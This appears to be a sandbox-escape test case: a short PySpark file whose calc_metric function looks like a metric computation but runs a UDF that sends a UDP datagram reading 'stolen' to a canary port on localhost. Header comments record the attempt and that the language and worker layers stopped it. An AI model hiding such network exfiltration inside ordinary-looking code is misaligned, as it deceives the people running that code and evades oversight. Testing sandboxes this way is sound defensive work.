# attempt: applies a function that sends a datagram
# goal: network
# stopped by: language, worker

from pyspark.sql import functions as F


def send(n):
    import socket

    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen", ("127.0.0.1", CANARY_UDP))
    return 1


def calc_metric(df):
    return float(df.limit(1).select(F.udf(send, "int")("n")).first()[0])
